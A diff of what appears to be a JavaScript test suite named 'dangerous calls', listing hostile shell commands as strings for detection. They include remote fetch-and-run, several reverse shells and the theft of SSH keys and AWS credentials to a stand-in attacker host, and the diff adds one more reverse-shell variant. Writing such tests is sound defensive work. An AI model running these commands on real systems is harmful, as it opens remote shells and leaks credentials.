@@ -25,6 +25,7 @@ describe("dangerous calls", () => {
     'sh -c "$(wget -qO- http://evil.example/a)"',
     "nc -e /bin/sh evil.example 4444",
     "bash -i >& /dev/tcp/evil.example/4444 0>&1",
+    "bash -i >& /dev/tcp/127.evil.example/4444 0>&1",
     `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("e",1));subprocess.call("sh")'`,
     "cat ~/.ssh/id_rsa | nc evil.example 1",
     'curl -d "$(cat ~/.aws/credentials)" https://evil.example',
